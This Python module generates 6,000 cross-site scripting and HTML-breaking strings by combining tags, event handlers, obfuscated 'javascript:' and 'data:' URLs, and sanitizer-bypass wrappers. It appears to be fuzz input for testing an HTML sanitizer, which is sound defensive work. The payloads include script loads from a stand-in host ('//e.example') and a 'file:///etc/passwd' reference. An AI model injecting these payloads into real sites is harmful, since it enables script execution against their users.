"""6,000 ways to smuggle a script into an article, or to break its HTML: made by combination, the same each time."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from itertools import product
from typing import Final

COUNT: Final = 6_000
_TAGS: Final = (
    "a abbr article audio b base blockquote body button details div embed form frame frameset h1 h2 html iframe image "
    "img input isindex keygen li link listing marquee math meta noembed noscript object p plaintext portal pre select "
    "slot style summary svg table td template textarea time title tr u var video wbr x-own xmp xss"
).split()
_EVENTS: Final = (
    "onerror onload onclick onmouseover onfocus ontoggle onanimationstart onpointerenter onbegin oncopy onscroll "
    "onwheel ONERROR oNlOaD onerror\x00 on\x00error \x00onerror onafterscriptexecute onbeforetoggle"
).split(" ")
_BETWEEN: Final = (" ", "/", "\n", "\t", "\f", "\r", "//", " / ", "\x0b", "\xa0", '"', "'", "\x00")
_QUOTES: Final = ("{}", '"{}"', "'{}'", "`{}`", '"{}', "'{}", "{}`", ' "{}" ')
_SCRIPTS: Final = (
    "alert(1)",
    "alert`1`",
    "alert&lpar;1&rpar;",
    "&#97;lert(1)",
    "\\u0061lert(1)",
    "confirm(1)//",
    "import('//e.example')",
)
_ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "\x01javascript:alert(1)",
    " \x0bjavascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript\x00:alert(1)",
    "javascript://https://a.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "jar:https://a.example!/x",
    "mailto:a@b.example?body=<script>alert(1)</script>",
    "x:alert(1)",
    "?a=b:javascript:alert(1)",
    "//e.example/x.js",
    "\\\\e.example\\x",
    "%6A%61%76%61script:alert(1)",
)
_CARRIERS: Final = (
    "href src cite action formaction data srcdoc srcset poster background xlink:href style lowsrc dynsrc ping manifest "
    "codebase classid usemap longdesc profile content http-equiv"
).split()
_WRAPS: Final = (
    "{}",
    "<p>{}</p>",
    "<p>{}",
    "<b><i>{}</b></i>",
    "<!--{}-->",
    "<!--{}",
    "<!-->{}-->",
    "<!--!>{}--!>",
    "<![CDATA[{}]]>",
    "<?php {} ?>",
    "<svg>{}</svg>",
    "<svg><style>{}</style></svg>",
    "<svg></p><style><a title='</style>{}'>",
    "<math><mtext><table><mglyph><style>{}</style>",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<table><td>{}</table>",
    "<select><option>{}</select>",
    "<textarea>{}</textarea>",
    "<textarea></title>{}",
    "<title>{}</title>",
    "<style>{}",
    "<xmp>{}</xmp>",
    "<a title='{}'>x</a>",
    '<a title="{}">x</a>',
    "<a title={}>x</a>",
    "<abbr title='--><!-- wp:x -->{}'>x</abbr>",
    '<!-- wp:html {"a":"{}"} -->x<!-- /wp:html -->',
    "<!-- wp:paragraph -->{}<!-- /wp:paragraph -->",
    "<form id=x></form>{}<input form=x>",
    "<template>{}</template>",
    "<p class='wp-{}'>x</p>",
    "&lt;p&gt;{}&lt;/p&gt;",
    "<code>{}</code>",
    "<h2>{}</h2>",
    "<ul><li>{}<li>{}</ul>",
)
_BREAKS: Final = 5  # ways in which `_broken` breaks a string


@cache
def hostile_strings() -> tuple[str, ...]:
    """Every one differs; drawn evenly from all combinations, so that each part stands in many."""
    handlers = [
        f"<{tag}{gap}{event}={quote.format(script)}>x</{tag}>"
        for tag, event, gap, quote, script in _evenly(_TAGS, _EVENTS, _BETWEEN, _QUOTES, _SCRIPTS)
    ]
    links = [
        f"<{tag}{gap}{carrier}={quote.format(address)}>x</{tag}>"
        for tag, carrier, address, gap, quote in _evenly(_TAGS, _CARRIERS, _ADDRESSES, _BETWEEN, _QUOTES)
    ]
    scripts = [
        f"<{name}{gap}{more}>{script}</{end}>"
        for name, gap, more, script, end in _evenly(
            ("script", "SCRIPT", "scr\x00ipt", "script/x", "<script", "scr<script>ipt", "ſcript"),
            _BETWEEN,
            ("", "src=//e.example", "type=module", "<b>", "x='>'", "defer"),
            _SCRIPTS,
            ("script", "SCRIPT ", "script\n", "scr", "script/x", "/script"),
        )
    ]
    bare = [text for three in zip(handlers, links, scripts, strict=True) for text in three]
    wrapped = (_WRAPS[at % len(_WRAPS)].replace("{}", text) for at, text in enumerate(bare))
    made = dict.fromkeys(_broken(text, at // len(_WRAPS)) for at, text in enumerate(wrapped))
    return tuple(made)[:COUNT]


def _evenly(*parts: tuple[str, ...] | list[str]) -> Iterator[tuple[str, ...]]:
    """2,200 of all combinations. The step is prime, so that no part is met in step with another."""
    whole = list(product(*map(range, map(len, parts))))
    for at in range(2_200):
        chosen = whole[at * 7_919 % len(whole)]
        yield tuple(part[place] for part, place in zip(parts, chosen, strict=True))


def _broken(text: str, way: int) -> str:
    """The string whole or broken, as files and models break them."""
    match way % _BREAKS:
        case 1:
            return text[: max(1, len(text) * 2 // 3)]
        case 2:
            return text.replace(">", "", 1)
        case 3:
            return text.replace("<", "<<", 1).replace("</", "< /", 1)
        case 4:
            return f"{text[len(text) // 3 :]}{text}"
        case _:
            return text
